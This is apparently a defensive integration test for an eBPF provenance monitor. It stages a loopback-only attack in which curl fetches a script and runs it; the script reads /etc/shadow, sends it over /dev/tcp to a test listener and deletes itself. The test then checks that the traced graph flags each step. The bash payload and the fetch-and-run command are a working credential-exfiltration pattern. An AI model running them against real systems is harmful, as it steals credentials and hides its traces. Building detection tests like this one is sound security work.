@@ -1,0 +1,282 @@
+/**
+ * A real attack-like scenario under the real sensor (root, eBPF), loopback only, then `provmon graph` on what it
+ * captured:
+ *
+ *   python3's http.server on 127.0.0.1 serves a script; a shell fetches it with curl into a world-writable
+ *   directory, chmod +x, runs it; the script (bash) reads /etc/shadow, opens 127.0.0.1:<listener> with /dev/tcp,
+ *   sends what it read to a one-shot TCP listener started by the test, and deletes itself (rm "$0").
+ *
+ * Backward from the listener's endpoint and forward from the fetched file, reduced and unreduced, the whole chain
+ * must appear in order through the file that links the processes (curl writes the file → the file is executed →
+ * the secret is read → the listener is connected to), with the nodes flagged: exec from a writable location,
+ * credential read, exfiltration after it, self-deletion.
+ */
+import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import type { GraphEdge, GraphNode, ProvenanceGraph } from '../../../kibana-plugin/common/graph/index.ts';
+import { startSensor, type RunningSensor, type SensorSummary } from '../../../test/support/sensor.ts';
+
+const ROOT = resolve(import.meta.dir, '../../..');
+const isRoot = process.getuid?.() === 0 && existsSync('/sys/kernel/btf/vmlinux');
+const ENV = { ...Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('PROVMON_'))), PROVMON_CONFIG: '' };
+
+interface Child {
+  proc: ReturnType<typeof Bun.spawn>;
+  firstLine: Promise<string>;
+}
+
+/** A subprocess whose first stdout line says it is ready (and carries its port). */
+function spawnReady(cmd: string[], cwd: string): Child {
+  const proc = Bun.spawn(cmd, { cwd, stdout: 'pipe', stderr: 'ignore', env: ENV });
+  const read = async () => {
+    const reader = (proc.stdout as ReadableStream<Uint8Array>).getReader();
+    let text = '';
+    while (!text.includes('\n')) {
+      const { value, done } = await reader.read();
+      if (done) break;
+      text += new TextDecoder().decode(value);
+    }
+    reader.releaseLock();
+    return text;
+  };
+  const firstLine = within(read(), 20_000, '').then((text) => {
+    if (!text.includes('\n')) throw new Error(`${cmd[0]} ${cmd[1]} did not start`);
+    return text.slice(0, text.indexOf('\n')).trim();
+  });
+  return { proc, firstLine };
+}
+
+/** One connection: accept, read to EOF, print the byte count, exit. The bytes are discarded. */
+const LISTENER = `
+import socket, sys
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", 0)); s.listen(1)
+print(s.getsockname()[1], flush=True)
+s.settimeout(30)
+c, _ = s.accept(); n = 0
+while True:
+    b = c.recv(65536)
+    if not b: break
+    n += len(b)
+print(n, flush=True)
+`;
+
+/** http.server on an ephemeral loopback port, printing the port once it listens. */
+const HTTP = `
+import functools, http.server, sys
+h = functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[1])
+h.log_message = lambda *a: None
+srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), h)
+print(srv.server_address[1], flush=True)
+srv.serve_forever()
+`;
+
+function graph(args: string[]): ProvenanceGraph {
+  const r = Bun.spawnSync([resolve(ROOT, 'bin/provmon'), 'graph', ...args], { cwd: ROOT, env: ENV });
+  const stderr = r.stderr.toString();
+  if (r.exitCode !== 0) throw new Error(`provmon graph ${args.join(' ')} exited ${r.exitCode}:\n${stderr}`);
+  return JSON.parse(r.stdout.toString()) as ProvenanceGraph;
+}
+
+interface Scenario {
+  work: string;
+  dropped: string;
+  listenerPort: number;
+  /** bytes the listener received */
+  received: number;
+  eventsDir: string;
+  summary: SensorSummary;
+}
+
+/** The promise's value, or `fallback` after `ms` (the timer is cleared either way: nothing keeps the process alive). */
+async function within<T, F>(promise: Promise<T>, ms: number, fallback: F): Promise<T | F> {
+  let timer: ReturnType<typeof setTimeout> | undefined;
+  try {
+    return await Promise.race([promise, new Promise<F>((done) => (timer = setTimeout(() => done(fallback), ms)))]);
+  } finally {
+    clearTimeout(timer);
+  }
+}
+
+/** Readers of the listener's stdout lines after the first (the byte count). */
+async function rest(child: Child): Promise<string> {
+  await child.firstLine;
+  const reader = (child.proc.stdout as ReadableStream<Uint8Array>).getReader();
+  let text = '';
+  for (;;) {
+    const { value, done } = await reader.read();
+    if (done) break;
+    text += new TextDecoder().decode(value);
+  }
+  return text.trim();
+}
+
+/** One run: servers up, sensor attached, the attack, sensor stopped (it flushes). Every process it starts is stopped. */
+async function runScenario(): Promise<Scenario> {
+  const work = mkdtempSync(join(tmpdir(), 'provmon-attack-'));
+  chmodSync(work, 0o755);
+  mkdirSync(join(work, 'srv'));
+  mkdirSync(join(work, 'dl'));
+  const dropped = join(work, 'dl', 'update.sh');
+  const children: Child[] = [];
+  let sensor: RunningSensor | undefined;
+  try {
+    const listener = spawnReady(['python3', '-c', LISTENER], work);
+    children.push(listener);
+    const http = spawnReady(['python3', '-c', HTTP, join(work, 'srv')], work);
+    children.push(http);
+    const listenerPort = Number(await listener.firstLine);
+    const httpPort = Number(await http.firstLine);
+    writeFileSync(
+      join(work, 'srv', 'update.sh'),
+      ['#!/bin/bash', "read -r -d '' loot < /etc/shadow", `exec 3<>/dev/tcp/127.0.0.1/${listenerPort}`, 'printf "%s" "$loot" >&3', 'exec 3>&-', 'rm -f "$0"', ''].join('\n'),
+    );
+
+    sensor = await startSensor({ args: ['--duration', '60'] });
+    const eventsDir = sensor.eventsDir;
+    const attack = Bun.spawn(['bash', '-c', `curl -s -o ${dropped} http://127.0.0.1:${httpPort}/update.sh && chmod +x ${dropped} && ${dropped}`], {
+      cwd: work,
+      env: ENV,
+      stdout: 'ignore',
+      stderr: 'ignore',
+    });
+    const exit = await within(attack.exited, 20_000, 'timeout');
+    if (exit !== 0) {
+      attack.kill('SIGKILL');
+      throw new Error(`the attack command ended with ${exit}`);
+    }
+    const count = await within(rest(listener), 10_000, '-1');
+    await Bun.sleep(300); // the last close/exit records reach the ring buffer
+    const summary = await sensor.stop();
+    sensor = undefined;
+    return { work, dropped, listenerPort, received: Number(count), eventsDir, summary };
+  } finally {
+    if (sensor) await sensor.stop().catch(() => undefined);
+    for (const c of children) {
+      c.proc.kill('SIGKILL');
+      await c.proc.exited;
+    }
+  }
+}
+
+describe.skipIf(!isRoot)('attack chain under the real sensor, traced by provmon graph (root, kernel BPF)', () => {
+  let run: Scenario;
+  let dropped: string;
+  let listenerPort: number;
+  let received: number;
+  let eventsDir: string;
+  const runs: Scenario[] = [];
+
+  beforeAll(async () => {
+    if (!Bun.which('curl')) throw new Error('curl is needed (apt-get install curl)');
+    if (!Bun.which('python3')) throw new Error('python3 is needed');
+    // A loss is counted by the sensor, never silent: on a machine so busy that the ring buffer overflowed during
+    // the scenario, run it once more rather than trace a capture known to have gaps.
+    for (let attempt = 0; attempt < 2; attempt++) {
+      run = await runScenario();
+      runs.push(run);
+      if (run.summary.kernelLost === 0 && run.summary.kernelDropped === 0) break;
+    }
+    ({ dropped, listenerPort, received, eventsDir } = run);
+  }, 150_000);
+
+  afterAll(() => {
+    for (const r of runs) {
+      rmSync(r.work, { recursive: true, force: true });
+      rmSync(r.eventsDir, { recursive: true, force: true });
+    }
+  });
+
+  test('the scenario ran: the listener got the secret, the script deleted itself, the sensor lost nothing', () => {
+    expect(received).toBeGreaterThan(0);
+    expect({ lost: run.summary.kernelLost, dropped: run.summary.kernelDropped }).toEqual({ lost: 0, dropped: 0 });
+    expect(existsSync(dropped)).toBe(false);
+  });
+
+  /** The chain's nodes and edges in one graph, found by what they are, not by ids the test cannot know. */
+  function chain(g: ProvenanceGraph) {
+    const byId = new Map(g.nodes.map((n) => [n.id, n] as const));
+    const file = g.nodes.find((n) => n.kind === 'file' && n.path === dropped);
+    const shadow = g.nodes.find((n) => n.kind === 'file' && n.path === '/etc/shadow');
+    const endpoint = g.nodes.find((n) => n.kind === 'endpoint' && n.ip === '127.0.0.1' && n.port === listenerPort);
+    const edges = (kind: string, pred: (e: GraphEdge) => boolean) => g.edges.filter((e) => e.kind === kind && pred(e));
+    const write = file && edges('write', (e) => e.target === file.id && byId.get(e.source)?.executable === '/usr/bin/curl')[0];
+    const exec = file && edges('exec', (e) => e.source === file.id)[0];
+    const script = exec ? byId.get(exec.target) : undefined;
+    const read = shadow && script && edges('read', (e) => e.source === shadow.id && e.target === script.id)[0];
+    const connect = endpoint && script && edges('connect', (e) => e.source === script.id && e.target === endpoint.id)[0];
+    const chmod = file && edges('chmod', (e) => e.target === file.id)[0];
+    const remove = file && edges('delete', (e) => e.target === file.id)[0];
+    return { byId, file, shadow, endpoint, script, write, exec, read, connect, chmod, remove };
+  }
+
+  const rulesOf = (n: GraphNode | undefined) => new Set((n?.flags ?? []).map((f) => f.rule));
+
+  for (const reduce of [true, false]) {
+    const flag = reduce ? [] : ['--no-reduce'];
+    const label = reduce ? 'reduced' : 'unreduced';
+
+    test(`backward from the listener's endpoint (${label}): curl → file → exec → shadow read → connect, in order, flagged`, () => {
+      const g = graph(['--events-dir', eventsDir, '--poi', `ip:127.0.0.1:${listenerPort}`, ...flag]);
+      const c = chain(g);
+      expect(c.endpoint?.poi).toBe(true);
+      expect(c.file).toBeDefined();
+      expect(c.write).toBeDefined();
+      expect(c.exec).toBeDefined();
+      expect(c.exec!.script).toBe(true); // bash started on the script (shebang): the script is the exec edge's file
+      expect(c.read).toBeDefined();
+      expect(c.connect).toBeDefined();
+      // in time order, through the file that links curl to the script's process
+      expect(c.write!.first <= c.exec!.first).toBe(true);
+      expect(c.exec!.first <= c.read!.first).toBe(true);
+      expect(c.read!.first <= c.connect!.first).toBe(true);
+      if (c.chmod) expect(c.write!.first <= c.chmod.first && c.chmod.first <= c.exec!.first).toBe(true);
+      for (const e of [c.write!, c.exec!, c.read!, c.connect!]) expect(e.attack_path).toBe(true);
+      // the processes: curl (the downloader) was started by the shell that then ran the script — `bash -c 'a && b && c'`
+      // forks for curl and chmod and execs the last command itself, so the script runs in that shell's process
+      const curl = c.byId.get(c.write!.source)!;
+      expect(curl.executable).toBe('/usr/bin/curl');
+      const spawnOfCurl = g.edges.find((e) => e.kind === 'spawn' && e.target === curl.id)!;
+      expect(spawnOfCurl.source).toBe(c.script!.id);
+      expect(spawnOfCurl.first <= c.write!.first).toBe(true);
+      // flags
+      expect(rulesOf(c.script)).toContain('exec-from-writable-location');
+      expect(rulesOf(c.script)).toContain('credential-read');
+      expect(rulesOf(c.script)).toContain('exfiltration-after-credential-read');
+      expect(c.read!.flags?.some((f) => f.rule === 'credential-read' && f.technique === 'T1003.008')).toBe(true);
+      expect(c.connect!.flags?.some((f) => f.rule === 'exfiltration-after-credential-read' && f.technique === 'T1041')).toBe(true);
+      // the summary tells it in order
+      const lines = g.summary.map((s) => s.text);
+      const at = (needle: string) => lines.findIndex((l) => l.includes(needle));
+      expect(at(`wrote ${dropped}`)).toBeGreaterThanOrEqual(0);
+      expect(at('/etc/shadow')).toBeGreaterThan(at(`wrote ${dropped}`));
+      expect(at(`127.0.0.1:${listenerPort}`)).toBeGreaterThan(at('/etc/shadow'));
+      if (reduce) expect(g.stats.edges).toBeLessThan(g.stats.edges_before);
+      else expect(g.stats.edges).toBe(g.stats.edges_before);
+    });
+
+    test(`forward from the fetched file (${label}): exec → connect, and the self-deletion`, () => {
+      const g = graph(['--events-dir', eventsDir, '--poi', `file:${dropped}`, '--direction', 'forward', ...flag]);
+      const c = chain(g);
+      expect(c.file?.poi).toBe(true);
+      expect(c.exec).toBeDefined();
+      expect(c.connect).toBeDefined();
+      expect(c.remove).toBeDefined();
+      expect(c.exec!.first <= c.connect!.first && c.connect!.first <= c.remove!.first).toBe(true);
+      const rm = c.byId.get(c.remove!.source)!;
+      expect(rm.executable).toBe('/usr/bin/rm');
+      expect(g.edges.some((e) => e.kind === 'spawn' && e.source === c.script!.id && e.target === rm.id)).toBe(true);
+      expect(rulesOf(c.script)).toContain('exec-from-writable-location');
+      expect(rulesOf(c.script)).toContain('exfiltration-after-credential-read');
+      const selfDelete = g.nodes.filter((n) => rulesOf(n).has('self-deletion'));
+      expect(selfDelete.length).toBeGreaterThan(0);
+      expect(c.remove!.flags?.some((f) => f.rule === 'self-deletion' && f.technique === 'T1070.004')).toBe(true);
+      for (const e of [c.exec!, c.connect!, c.remove!]) expect(e.attack_path).toBe(true);
+      // and the process that executed the file is the one curl's file led to, not an older run of the same path
+      expect(c.script!.args?.some((a) => a === dropped)).toBe(true);
+    });
+  }
+
+});
